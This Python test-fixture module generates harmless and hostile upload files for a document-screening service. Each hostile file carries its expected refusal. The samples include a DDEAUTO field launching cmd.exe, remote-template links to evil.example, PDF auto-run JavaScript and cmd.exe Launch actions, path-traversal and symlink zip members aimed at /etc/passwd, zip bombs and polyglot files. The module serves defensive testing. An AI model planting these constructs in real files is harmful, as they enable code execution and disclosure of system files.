"""Files as people with bad intentions send them, and as accidents leave them; made here, none is kept in the project.

`harmless()` are small good files, one for each kind; `hostile()` are those that have to be refused as evidence, each
with the sentence that refuses it; `mutated(seed)` is a good or hostile file with some bytes changed, about which
nothing is known but that it has to be answered. The other modules of files have those that go deeper into one kind;
`collection.every_file` has them all.
"""

import random
import stat
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from functools import cache
from io import BytesIO

from openpyxl import Workbook
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    TextStringObject,
)

from reports.screening import formats
from tests.importing.word.packages import SPACE, package, paragraph, parts, relationships

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
_MAIN = "application/vnd.openxmlformats-officedocument.{}.main+xml"
_TYPES = {
    "docx": ("word/document.xml", _MAIN.format("wordprocessingml.document")),
    "pptx": ("ppt/presentation.xml", _MAIN.format("presentationml.presentation")),
}
OFD = '<ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016" Version="1.0"/>'
ANY = "*"
# An element that asks for a document type, spelled in the ways a parser knows.
DOCTYPE = '<!DOCTYPE d [<!ENTITY e "e">]>'
# What most files say, and what is made of those that are read.
LINE = "签到表"


@dataclass(frozen=True)
class Hostile:
    """A file: its name, its bytes, and the sentence that refuses it as evidence, "" for one that is taken.

    Of one that the readers may meet too: `read` is the sentence of the reader for its kind (of reports, or of tables),
    `becomes` the text that it makes of the file (`ANY` for what doesn't matter), a line each, of a table cells parted
    by bars.
    """

    what: str
    name: str
    data: bytes
    refusal: str
    read: str = ""
    becomes: str = ""


def refused(what: str, data: bytes, evidence: str, read: str, *, name: str) -> Hostile:
    """One that its reader doesn't take, and that is refused as evidence unless `evidence` is blank."""
    return Hostile(what, name, data, evidence, read=read)


def read(what: str, data: bytes, becomes: str = LINE, evidence: str = "", *, name: str) -> Hostile:
    """One that is read; what comes of it is `becomes` alone."""
    return Hostile(what, name, data, evidence, becomes=becomes)


def content_types(kind: str, part_type: str = "") -> str:
    place, usual = _TYPES[kind]
    return (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        f'<Override PartName="/{place}" ContentType="{part_type or usual}"/></Types>'
    )


def docx(body: str = "", members: dict[str, str | bytes] | None = None, **more: str) -> bytes:
    """A Word file; `members` come beside its usual parts, or in their place."""
    usual = parts(body or paragraph(LINE), **more)
    return package({"[Content_Types].xml": content_types("docx"), **usual, **(members or {})})


def pptx(text: str = "学习材料", members: dict[str, str | bytes] | None = None) -> bytes:
    """Slides with one line."""
    space = 'xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" '
    space += 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
    return package(
        {
            "[Content_Types].xml": content_types("pptx"),
            "_rels/.rels": relationships(officeDocument="ppt/presentation.xml"),
            "ppt/presentation.xml": f"<p:presentation {space}/>",
            "ppt/slides/slide1.xml": f"<p:sld {space}><a:p><a:r><a:t>{text}</a:t></a:r></a:p></p:sld>",
            **(members or {}),
        }
    )


def xlsx(text: str = "廉政谈话登记表") -> bytes:
    """A workbook with one cell."""
    book, file = Workbook(), BytesIO()
    sheet = book.active
    assert sheet is not None
    sheet["A1"] = text
    book.save(file)
    return file.getvalue()


def ofd(text: str = "通知", root: str = OFD) -> bytes:
    """An OFD of one page (GB/T 33190)."""
    space = 'xmlns:ofd="http://www.ofdspec.org/2016"'
    page = f"<ofd:Page {space}><ofd:TextObject><ofd:TextCode>{text}</ofd:TextCode></ofd:TextObject></ofd:Page>"
    return package({"OFD.xml": root, "Doc_0/Pages/Page_0/Content.xml": page})


def picture(kind: str = "JPEG", size: tuple[int, int] = (640, 480), **more: object) -> bytes:
    """A picture of one colour."""
    file = BytesIO()
    Image.new("RGB", size, "#a61b1b").save(file, kind, **more)
    return file.getvalue()


def png_header(width: int, height: int) -> bytes:
    """A PNG that says it is so large and holds next to nothing."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack("!L", len(data)) + kind + data + struct.pack("!L", zlib.crc32(kind + data))

    head = struct.pack("!LLBBBBB", width, height, 8, 2, 0, 0, 0)
    rows = zlib.compress(b"\0" * 1000)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def pdf(**root: object) -> bytes:
    """A PDF of one empty page; `root` are entries of its catalogue."""
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    for name, value in root.items():
        writer.root_object[NameObject(f"/{name}")] = value
    return written(writer)


def action(kind: str, **more: str) -> DictionaryObject:
    """An action of this kind, to be run when the file is opened."""
    made = DictionaryObject({NameObject("/S"): NameObject(f"/{kind}")})
    made.update({NameObject(f"/{name}"): TextStringObject(text) for name, text in more.items()})
    return made


def printed_pdf(text: bytes) -> bytes:
    """A PDF whose page prints a line in Latin letters or in the bytes of a Chinese font without a table."""
    writer = PdfWriter()
    page = writer.add_blank_page(width=595, height=842)
    font = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Font"),
            NameObject("/Subtype"): NameObject("/Type0"),
            NameObject("/BaseFont"): NameObject("/STSong-Light"),
            NameObject("/Encoding"): NameObject("/UniGB-UTF16-H"),
        }
    )
    page[NameObject("/Resources")] = DictionaryObject(
        {NameObject("/Font"): DictionaryObject({NameObject("/F1"): font})}
    )
    content = DecodedStreamObject()
    content.set_data(b"BT /F1 12 Tf 72 720 Td <" + text.hex().encode() + b"> Tj ET")
    page[NameObject("/Contents")] = content
    return written(writer)


def written(writer: PdfWriter) -> bytes:
    """The bytes of the PDF."""
    file = BytesIO()
    writer.write(file)
    return file.getvalue()


def harmless() -> dict[str, bytes]:
    """A small good file of each kind, by its name."""
    return {
        "签到表.docx": docx(),
        "谈话登记表.xlsx": xlsx(),
        "学习材料.pptx": pptx(),
        "通知.ofd": ofd(),
        "会议纪要.pdf": pdf(),
        "警示教育大会.jpg": picture(),
        "宣传栏.PNG": picture("PNG"),
    }


def hostile() -> list[Hostile]:
    """All files that have to be refused."""
    return [*_names(), *_signatures(), *_containers(), *_active(), *_pdfs(), *_pictures(), *_marked()]


def mutated(seed: int) -> tuple[str, bytes]:
    """A file with bytes changed, cut out, doubled or put in, the same for the same seed."""
    chance = random.Random(seed)
    name, data = chance.choice(_sources())
    changed = bytearray(data)
    for _ in range(chance.randint(1, 12)):
        place = chance.randrange(len(changed) + 1)
        match chance.randrange(5):
            case 0:
                changed[place : place + 1] = chance.randbytes(1)
            case 1:
                del changed[place : place + chance.randint(1, 64)]
            case 2:
                changed[place:place] = changed[place : place + chance.randint(1, 64)]
            case 3:
                changed[place:place] = chance.randbytes(chance.randint(1, 16))
            case 4:
                changed[place : place + 4] = b"\xff\xff\xff\xff"
    return name, bytes(changed)


@cache
def _sources() -> list[tuple[str, bytes]]:
    return [*harmless().items(), *((one.name, one.data) for one in hostile() if len(one.data) < 200_000)]


def _names() -> Iterator[Hostile]:
    good = pdf()
    for name in (
        "setup.exe",
        "page.html",
        "x.svg",
        "archive.zip",
        "run.pdf.js",
        "无后缀",
        "shot.heic",
        ".pdf",
        "a.pdf ",
    ):
        yield Hostile(f"name {name!r}", name, good, formats.NOT_TAKEN)
    for name in ("汇报.doc", "台账.XLS", "汇报.wps", "表.et"):
        yield Hostile(f"old {name}", name, OLE + bytes(600), formats.OLD_FORMAT)
    for name in ("汇报.docm", "表.xlsm", "x.pptm"):
        yield Hostile(f"macros {name}", name, docx(), formats.ACTIVE)
    for name in ("绝密.pdf", "机密-纪要.pdf", "会议纪要（秘密）.pdf", "【机密】方案.pdf", "方案 秘密★1年.pdf"):
        yield Hostile(f"marked {name}", name, good, formats.CLASSIFIED)


def _signatures() -> Iterator[Hostile]:
    contents = {"text": b"hello", "OLE": OLE + bytes(600), "HTML": b"<html><script>alert(1)</script>", "MZ": b"MZ" * 40}
    for what, data in contents.items():
        for name in ("a.pdf", "a.jpg", "a.png"):
            yield Hostile(f"{what} as {name}", name, data, formats.OTHER_CONTENT)
    yield Hostile("text as docx", "a.docx", b"hello", formats.OTHER_CONTENT)
    yield Hostile("old Word as docx", "a.docx", OLE + bytes(600), formats.OLD_FORMAT)
    encrypted = OLE + "EncryptedPackage".encode("utf-16-le")
    yield Hostile("encrypted docx", "a.docx", encrypted, formats.ENCRYPTED)
    yield Hostile("docx as xlsx", "a.xlsx", docx(), formats.OTHER_CONTENT)
    yield Hostile("xlsx as pptx", "a.pptx", xlsx(), formats.OTHER_CONTENT)
    yield Hostile("zip as docx", "a.docx", package({"readme.txt": "x"}), formats.OTHER_CONTENT)
    yield Hostile("other root as ofd", "a.ofd", ofd(root="<OFD/>"), formats.OTHER_CONTENT)
    yield Hostile("jpeg as png", "a.png", picture(), formats.OTHER_CONTENT)
    yield Hostile("nothing", "a.pdf", b"", formats.EMPTY)
    yield Hostile("too much", "a.pdf", pdf() + bytes(20 * 1024 * 1024), formats.TOO_LARGE)


def _containers() -> Iterator[Hostile]:
    good = docx()
    yield Hostile("bomb", "a.docx", docx(members={"word/x.xml": b"<x>" + b" " * 19_000_000}), formats.TOO_PACKED)
    many = docx(members={f"word/{number}.xml": "<x/>" for number in range(2_100)})
    yield Hostile("many members", "a.docx", many, formats.TOO_PACKED)
    yield Hostile("nested archive", "a.docx", docx(members={"word/media/x.bin": good}), formats.NESTED)
    yield Hostile("embedded workbook", "a.pptx", pptx(members={"ppt/embeddings/b.xlsx": xlsx()}), formats.NESTED)
    for name in ("../../etc/passwd", "/etc/passwd", "C:\\windows\\x.xml", "word/../../x.xml"):
        yield Hostile(f"member {name}", "a.docx", docx(members={name: "<x/>"}), formats.DAMAGED)
    yield Hostile("double member", "a.docx", with_member(good, "WORD/document.xml"), formats.DAMAGED)
    yield Hostile("link", "a.docx", with_member(good, "word/link", link=True), formats.DAMAGED)
    yield Hostile("cut off", "a.docx", good[: len(good) // 2], formats.DAMAGED)
    yield Hostile("locked member", "a.docx", _locked(good), formats.ENCRYPTED)
    document = f"<w:document {SPACE}><w:body/></w:document>"
    entity = docx(members={"word/document.xml": DOCTYPE + document})
    yield Hostile("document type", "a.docx", entity, formats.ACTIVE)
    hidden = docx(members={"word/document.xml": ("\ufeff" + DOCTYPE + document).encode("utf-16-le")})
    yield Hostile("document type in UTF-16", "a.docx", hidden, formats.ACTIVE)
    tags = docx(body="<w:p/>" * 600_000 + "".join(f'<w:p w:rsidR="{n:x}"/>' for n in range(450_000)))
    yield Hostile("many elements", "a.docx", tags, formats.TOO_PACKED)
    deep = docx(members={"word/document.xml": "<w:p>" * 300 + "</w:p>" * 300})
    yield Hostile("deep nesting without its namespace", "a.docx", deep, formats.DAMAGED)


def _active() -> Iterator[Hostile]:
    yield Hostile("macros", "a.docx", docx(members={"word/vbaProject.bin": b"x"}), formats.ACTIVE)
    yield Hostile("ActiveX", "a.pptx", pptx(members={"ppt/activeX/activeX1.xml": "<x/>"}), formats.ACTIVE)
    macro_type = content_types("docx", "application/vnd.ms-word.document.macroEnabled.main+xml")
    yield Hostile("macro type", "a.docx", docx(members={"[Content_Types].xml": macro_type}), formats.ACTIVE)
    dde = '<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>'
    yield Hostile("DDE field", "a.docx", docx(dde), formats.ACTIVE)
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    for target in ("http://evil.example/x.dotm", "\\\\evil\\share\\x.dotm", "file://evil/x.dotm"):
        outside = (
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="r1" Type="{kind}" Target="{target}" TargetMode="External"/></Relationships>'
        )
        members: dict[str, str | bytes] = {"word/_rels/settings.xml.rels": outside}
        yield Hostile(f"template {target}", "a.docx", docx(members=members), formats.OUTSIDE)


def _pdfs() -> Iterator[Hostile]:
    good = pdf()
    yield Hostile("PDF cut off", "a.pdf", good[: len(good) // 2], formats.DAMAGED)
    yield Hostile("PDF header alone", "a.pdf", b"%PDF-1.7\n%%EOF\n", formats.DAMAGED)
    yield Hostile("PDF without pages", "a.pdf", written(PdfWriter()), formats.DAMAGED)
    yield Hostile("PDF with a program behind", "a.pdf", good + b"MZ" * 100, formats.DAMAGED)
    yield Hostile("PDF and Word file in one", "a.pdf", good + docx(), formats.TWO_IN_ONE)
    opened = {"OpenAction": action("JavaScript", JS="app.alert(1)")}
    yield Hostile("PDF script", "a.pdf", pdf(**opened), formats.ACTIVE)
    yield Hostile("PDF launch", "a.pdf", pdf(OpenAction=action("Launch", F="cmd.exe")), formats.ACTIVE)
    disguised = pdf(**opened).replace(b"/JavaScript", b"/#4aavaScript")
    yield Hostile("PDF script under another spelling", "a.pdf", disguised, formats.ACTIVE)
    yield Hostile("PDF import", "a.pdf", pdf(OpenAction=action("ImportData")), formats.ACTIVE)
    more = DictionaryObject({NameObject("/WC"): action("JavaScript", JS="x")})
    yield Hostile("PDF script on closing", "a.pdf", pdf(AA=more), formats.ACTIVE)
    form = DictionaryObject({NameObject("/XFA"): ArrayObject([TextStringObject("x")])})
    yield Hostile("PDF with XFA", "a.pdf", pdf(AcroForm=form), formats.ACTIVE)
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.add_attachment("x.exe", b"MZ")
    yield Hostile("PDF with a file inside", "a.pdf", written(writer), formats.ACTIVE)
    unnamed = good.replace(b"xref\n", b"99 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\nxref\n", 1)
    yield Hostile("PDF launch that no table names", "a.pdf", unnamed, formats.ACTIVE)
    locked = PdfWriter()
    locked.add_blank_page(width=200, height=200)
    locked.encrypt("", "owner", algorithm="RC4-128")
    yield Hostile("PDF encrypted", "a.pdf", written(locked), formats.ENCRYPTED)


def _pictures() -> Iterator[Hostile]:
    yield Hostile("PNG of 100,000 by 100,000", "a.png", png_header(100_000, 100_000), formats.LARGE_PICTURE)
    yield Hostile("PNG that holds less", "a.png", png_header(2_000, 2_000), formats.DAMAGED)
    whole = picture("PNG")
    yield Hostile("PNG cut off", "a.png", whole[: len(whole) // 2], formats.DAMAGED)
    whole = picture()
    yield Hostile("JPEG cut off", "a.jpg", whole[: len(whole) // 3], formats.DAMAGED)
    yield Hostile("JPEG and archive in one", "a.jpg", whole + package({"x.exe": b"MZ"}), formats.TWO_IN_ONE)
    yield Hostile("JPEG header alone", "a.jpg", b"\xff\xd8\xff\xe0", formats.DAMAGED)


def _marked() -> Iterator[Hostile]:
    yield Hostile("Word marked", "a.docx", docx(paragraph("机密★1年") + paragraph("方案")), formats.CLASSIFIED)
    header = docx(members={"word/header1.xml": f"<w:hdr {SPACE}>{paragraph('秘密')}</w:hdr>"})
    yield Hostile("Word marked in its header", "a.docx", header, formats.CLASSIFIED)
    yield Hostile("slides marked", "a.pptx", pptx("秘　密"), formats.CLASSIFIED)
    yield Hostile("workbook marked", "a.xlsx", xlsx("绝密★长期"), formats.CLASSIFIED)
    yield Hostile("OFD marked", "a.ofd", ofd("机密"), formats.CLASSIFIED)
    yield Hostile("PDF marked", "a.pdf", printed_pdf("机密".encode("utf-16-be")), formats.CLASSIFIED)


def with_member(data: bytes, name: str, *, link: bool = False) -> bytes:
    """The package with one more member; a link leads to where files of the system lie."""
    file = BytesIO(data)
    with zipfile.ZipFile(file, "a") as archive:
        member = zipfile.ZipInfo(name)
        member.external_attr = (stat.S_IFLNK | 0o777) << 16 if link else 0
        archive.writestr(member, "/etc/passwd" if link else "<x/>")
    return file.getvalue()


def _locked(data: bytes) -> bytes:
    """The package with the sign of encryption at its first member, in both places that have it."""
    changed = bytearray(data)
    changed[6] |= 1
    changed[data.index(b"PK\x01\x02") + 8] |= 1
    return bytes(changed)
